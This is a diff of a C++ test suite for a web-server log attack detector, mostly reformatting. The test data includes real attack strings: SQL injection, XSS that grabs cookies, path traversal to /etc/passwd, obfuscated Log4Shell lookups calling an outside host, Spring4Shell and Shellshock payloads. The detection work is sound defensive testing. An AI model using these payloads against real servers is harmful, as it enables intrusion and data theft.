@@ -54,8 +54,8 @@ std::string query(const Request& r) {
 
 std::string combinedLine(const Request& r) {
   return r.ip + " - - [" + stamp(r.time, "%d/%b/%Y:%H:%M:%S +0000") + "] \"" + r.method + " " +
-         r.target + " HTTP/1.1\" " + std::to_string(r.status) + " 512 \"" + r.referer +
-         "\" \"" + r.userAgent + "\"\n";
+         r.target + " HTTP/1.1\" " + std::to_string(r.status) + " 512 \"" + r.referer + "\" \"" +
+         r.userAgent + "\"\n";
 }
 
 std::string plusForSpace(std::string text) {
@@ -133,7 +133,8 @@ std::vector<Request> repeated(const std::string& ip, int n, const std::string& m
 
 std::vector<Case> cases() {
   std::vector<Case> out = {
-      {"scanner user agents", {"web.scanner.user-agent"},
+      {"scanner user agents",
+       {"web.scanner.user-agent"},
        from("203.0.113.1",
             {{"GET", "/", "200", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"},
              {"GET", "/index.php?id=1", "200", "sqlmap/1.8.2#stable (https://sqlmap.org)"},
@@ -141,80 +142,101 @@ std::vector<Case> cases() {
              {"GET", "/", "400", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
              {"GET", "/", "200", "Mozilla/5.0 zgrab/0.x"},
              {"GET", "/", "200", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"},
-             {"GET", "/", "200", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}})},
-      {"ordinary browsers and crawlers", {},
-       from("203.0.113.2",
-            {{"GET", "/", "200", "Mozilla/5.0 (compatible; Googlebot/2.1)"},
-             {"GET", "/about", "200", "curl/8.5.0"}})},
-      {"scanner probe paths, encoded", {"web.scanner.tool-path"},
+             {"GET", "/", "200",
+              "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}})},
+      {"ordinary browsers and crawlers",
+       {},
+       from("203.0.113.2", {{"GET", "/", "200", "Mozilla/5.0 (compatible; Googlebot/2.1)"},
+                            {"GET", "/about", "200", "curl/8.5.0"}})},
+      // Nmap's Trinity.txt.bak is a backup file's name too.
+      {"scanner probe paths, encoded",
+       {"web.scanner.tool-path", "web.probe.sensitive-file"},
        from("203.0.113.3", {{"GET", "/nmaplowercheck1764547200", "404"},
                             {"GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "404"},
                             {"POST", "/HNAP1/", "404"}})},
-      {"admin and install paths of several kinds", {"web.scanner.probe"},
+      {"admin and install paths of several kinds",
+       {"web.scanner.probe"},
        from("203.0.113.4", {{"GET", "/wp-login.php", "200"},
                             {"GET", "/phpMyAdmin/", "200"},
                             {"GET", "/manager/html", "404"}})},
       {"one admin path again and again", {}, repeated("203.0.113.5", 4, "GET", "/wp-admin/", 200)},
-      {"CMS fingerprinting that finds nothing", {"web.cms.scan"},
+      {"CMS fingerprinting that finds nothing",
+       {"web.cms.scan"},
        from("203.0.113.6", {{"GET", "/wp-content/plugins/revslider/readme.txt", "404"},
                             {"GET", "/wp-includes/wlwmanifest.xml", "404"},
                             {"GET", "/core/CHANGELOG.txt", "404"},
                             {"GET", "/components/com_users/users.xml", "404"},
                             {"GET", "/sites/default/settings.php", "404"},
                             {"GET", "/misc/drupal.js", "404"}})},
-      {"a WordPress site serving its own files", {},
+      {"a WordPress site serving its own files",
+       {},
        from("203.0.113.7", {{"GET", "/wp-content/plugins/revslider/readme.txt", "200"},
                             {"GET", "/wp-includes/wlwmanifest.xml", "200"},
                             {"GET", "/wp-content/themes/x/style.css", "200"},
                             {"GET", "/wp-includes/js/jquery.js", "200"},
                             {"GET", "/wp-content/uploads/2026/12/a.jpg", "200"}})},
-      {"secrets and repository files, encoded", {"web.probe.sensitive-file"},
+      {"secrets and repository files, encoded",
+       {"web.probe.sensitive-file"},
        from("203.0.113.8", {{"GET", "/%2Eenv", "404"}, {"GET", "/.git/config", "404"}})},
-      {"pages whose names look like secrets", {},
+      {"pages whose names look like secrets",
+       {},
        from("203.0.113.9", {{"GET", "/environment.html", "200"}, {"GET", "/gitlab/", "200"}})},
-      {"path traversal, double-encoded and with backslashes", {"web.path-traversal"},
+      {"path traversal, double-encoded and with backslashes",
+       {"web.path-traversal"},
        from("203.0.113.10",
             {{"GET", "/download.php?file=%252e%252e%252f%252E%252E%252Fetc%252fpasswd", "200"},
              {"GET", "/static/..%5c..%5cWindows/win.ini", "404"},
              {"GET", "/img/%2E%2e%2F%2e%2E%2fapp.config", "404"}})},
-      {"dots that are not traversal", {},
+      {"dots that are not traversal",
+       {},
        from("203.0.113.11", {{"GET", "/docs/a..b.html", "200"}, {"GET", "/v1.2/x", "200"}})},
-      {"SQL injection, encoded and in mixed case", {"web.sql-injection"},
+      {"SQL injection, encoded and in mixed case",
+       {"web.sql-injection"},
        from("203.0.113.12",
             {{"GET", "/product.php?id=1%20UNION%20ALL%20SELECT%20NULL,concat(0x3a,user()),NULL--",
               "200"},
              {"GET", "/item?id=1'+OR+'1'='1", "200"},
              {"GET", "/search?q=1%2527%2520AnD%2520SlEeP(5)--", "200"}})},
-      {"words of SQL in ordinary pages", {},
+      {"words of SQL in ordinary pages",
+       {},
        from("203.0.113.13", {{"GET", "/articles/union-select-committee", "200"},
                              {"GET", "/search?q=sleeping+bags&order=price", "200"}})},
-      {"cross-site scripting", {"web.xss"},
+      {"cross-site scripting",
+       {"web.xss"},
        from("203.0.113.14",
             {{"GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "200"},
              {"GET", "/p?x=%2522%253E%253CSvG/OnLoad%253Dprompt(1)%253E", "200"}})},
-      {"scripts and words that are not XSS", {},
+      {"scripts and words that are not XSS",
+       {},
        from("203.0.113.15",
             {{"GET", "/scripts/app.js", "200"}, {"GET", "/search?q=alerting+on+load", "200"}})},
-      {"Log4Shell in the URL and the user agent, obfuscated", {"web.rce.log4shell"},
+      {"Log4Shell in the URL and the user agent, obfuscated",
+       {"web.rce.log4shell"},
        from("203.0.113.16",
             {{"GET", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", "200"},
              {"GET", "/", "200", "${jndi:ldap://198.51.100.7:1389/a}"},
              {"GET", "/", "200", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"},
              {"GET", "/", "200", "Mozilla/5.0", "${j${::-n}di:dns://198.51.100.7/a}"}})},
       {"template placeholders", {}, from("203.0.113.17", {{"GET", "/price?fmt=${amount}", "200"}})},
-      {"Spring4Shell", {"web.rce.spring4shell"},
+      {"Spring4Shell",
+       {"web.rce.spring4shell"},
        from("203.0.113.18",
             {{"POST",
               "/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern="
               "%25%7Bc2%7Di",
               "200"}})},
-      {"a page about class loaders", {}, from("203.0.113.19", {{"GET", "/docs/classloader.html", "200"}})},
-      {"Shellshock in the user agent and the referer", {"web.rce.shellshock"},
+      {"a page about class loaders",
+       {},
+       from("203.0.113.19", {{"GET", "/docs/classloader.html", "200"}})},
+      {"Shellshock in the user agent and the referer",
+       {"web.rce.shellshock"},
        from("203.0.113.20", {{"GET", "/cgi-bin/status", "200", "() { :;}; /bin/bash -c id"},
                              {"GET", "/", "200", "Mozilla/5.0", "() { ignored; }; echo; id"}})},
-      {"braces in a user agent", {},
+      {"braces in a user agent",
+       {},
        from("203.0.113.21", {{"GET", "/", "200", "Mozilla/5.0 (compatible; {bot})"}})},
-      {"known exploit paths", {"web.rce.cve-probe"},
+      {"known exploit paths",
+       {"web.rce.cve-probe"},
        from("203.0.113.22",
             {{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "404"},
              {"GET",
@@ -222,27 +244,34 @@ std::vector<Case> cases() {
               "200"},
              {"POST", "/_ignition/execute-solution", "405"}})},
       {"PHPUnit's readme", {}, from("203.0.113.23", {{"GET", "/vendor/phpunit/README.md", "404"}})},
-      {"a script run from the upload folder", {"web.webshell.upload-path"},
+      {"a script run from the upload folder",
+       {"web.webshell.upload-path"},
        from("203.0.113.24", {{"POST", "/wp-content/uploads/2026/12/x7.php", "200"},
                              {"GET", "/wp-content/UPLOADS/2026/12/x7.PhP", "200"}})},
-      {"pictures and a refused script in the upload folder", {},
+      {"pictures and a refused script in the upload folder",
+       {},
        from("203.0.113.25", {{"GET", "/wp-content/uploads/2026/12/photo.jpg", "200"},
                              {"GET", "/wp-content/uploads/2026/12/x7.php", "404"}})},
-      {"a known web shell", {"web.webshell.known-name"},
+      {"a known web shell",
+       {"web.webshell.known-name"},
        from("203.0.113.26", {{"GET", "/c99.php", "200"}})},
-      {"a known web shell's name, not there", {}, from("203.0.113.27", {{"GET", "/c99.php", "404"}})},
-      {"a flood of not-found answers", {"web.scan.404-flood"},
+      {"a known web shell's name, not there",
+       {},
+       from("203.0.113.27", {{"GET", "/c99.php", "404"}})},
+      {"a flood of not-found answers",
+       {"web.scan.404-flood"},
        repeated("203.0.113.28", 60, "GET", "/guess", 404, true)},
       {"a few not-found answers", {}, repeated("203.0.113.29", 40, "GET", "/guess", 404, true)},
-      {"login brute force from one address", {"web.login.bruteforce"},
+      {"login brute force from one address",
+       {"web.login.bruteforce"},
        repeated("203.0.113.30", 12, "POST", "/wp-login.php", 200)},
       {"a few failed logins", {}, repeated("203.0.113.31", 5, "POST", "/wp-login.php", 200)},
   };
   Case distributed{"distributed login brute force", {"web.login.distributed"}, {}};
   Case few{"a few addresses logging in", {}, {}};
   for (int i = 1; i <= 12; ++i) {
-    for (auto& r : from("198.51.100." + std::to_string(i),
-                        {{"POST", "/administrator/index.php", "200"}}))
+    for (auto& r :
+         from("198.51.100." + std::to_string(i), {{"POST", "/administrator/index.php", "200"}}))
       distributed.requests.push_back(r);
   }
   for (int i = 101; i <= 108; ++i) {
@@ -254,7 +283,8 @@ std::vector<Case> cases() {
   // Each case in its own two hours, so no rule window joins two of them.
   for (size_t k = 0; k < out.size(); ++k) {
     for (size_t i = 0; i < out[k].requests.size(); ++i)
-      out[k].requests[i].time = kBase + static_cast<int64_t>(k) * 7200 + static_cast<int64_t>(i) * 2;
+      out[k].requests[i].time =
+          kBase + static_cast<int64_t>(k) * 7200 + static_cast<int64_t>(i) * 2;
   }
   return out;
 }
@@ -319,18 +349,17 @@ TEST_CASE("garbage lines are reported by file and line, in every format, and the
   scan.status = 404;
   scan.time = kBase;
   test::writeFile(dir / "access.log", combinedLine(scan) + "garbage\n" +
-                                           "203.0.113.50 - - [03/Dec/2026:00:00:01 +0000] "
-                                           "\"GET / HTTP/1.1\" 2OO 5\n" +
-                                           combinedLine(scan));
+                                          "203.0.113.50 - - [03/Dec/2026:00:00:01 +0000] "
+                                          "\"GET / HTTP/1.1\" 2OO 5\n" +
+                                          combinedLine(scan));
   test::writeFile(dir / "w3c.log", std::string(kW3cHeader) + w3cLine(scan) +
                                        "2026-12-03 00:00:01 SHOP GET /short\n" + w3cLine(scan));
   test::writeFile(dir / "http.json", appServiceRecord(scan).dump() + "\n{not json\n" +
                                          json{{"TimeGenerated", "2026-12-03T00:00:01Z"}}.dump() +
                                          "\n" + appServiceRecord(scan).dump() + "\n");
-  test::WebDetection d =
-      test::detectWeb(dir, {"apache:" + (dir / "access.log").string(),
-                            "w3c:" + (dir / "w3c.log").string(),
-                            "appservice-http-logs:" + (dir / "http.json").string()});
+  test::WebDetection d = test::detectWeb(
+      dir, {"apache:" + (dir / "access.log").string(), "w3c:" + (dir / "w3c.log").string(),
+            "appservice-http-logs:" + (dir / "http.json").string()});
   for (const std::string bad :
        {"access.log:2: skipped", "access.log:3: skipped: bad status code", "w3c.log:6: skipped",
         "http.json:2: skipped", "http.json:3: skipped"})
@@ -349,7 +378,7 @@ TEST_CASE("decodedUrl: percent, double and IIS encodings, overlong dots, '+', ba
   CHECK(sdk::decodedUrl("/%u002e%u002e/x") == "/../x");
   CHECK(sdk::decodedUrl("/%c0%ae%c0%ae%c0%afetc") == "/../etc");
   CHECK(sdk::decodedUrl("/q?a=1+UNION+%53ELECT") == "/q?a=1 union select");
-  CHECK(sdk::decodedUrl("/%25252e") == "/.");          // triple encoding
+  CHECK(sdk::decodedUrl("/%25252e") == "/.");                    // triple encoding
   CHECK(sdk::decodedUrl("/100%25-sure%zz") == "/100%-sure%zz");  // stray % stay
   CHECK(sdk::decodedPath("/a%3fb?c=%2e") == "/a?b");
 }
